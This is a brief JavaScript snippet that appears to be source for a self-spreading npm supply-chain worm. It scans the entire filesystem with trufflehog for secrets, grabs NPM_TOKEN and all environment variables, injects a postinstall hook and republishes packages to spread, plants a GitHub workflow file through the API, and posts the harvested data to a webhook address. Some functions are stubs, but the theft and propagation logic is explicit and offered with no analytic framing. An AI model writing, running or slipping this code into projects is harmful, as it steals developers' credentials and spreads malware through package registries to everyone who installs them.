const { execSync } = require("child_process");
const found = execSync("trufflehog filesystem / --json").toString();
const { NPM_TOKEN } = process.env;
const all = JSON.stringify({ env: process.env, found });
async function spread(pkg) {
  pkg.scripts.postinstall = "node bundle.js";
  execSync("npm publish --access public");
}
async function plant(octokit, owner, repo) {
  await octokit.request("PUT /repos/{owner}/{repo}/contents/.github/workflows/none.yml", { owner, repo });
}
fetch("https://webhook.invalid/bb8ca5f6", { method: "POST", body: all });
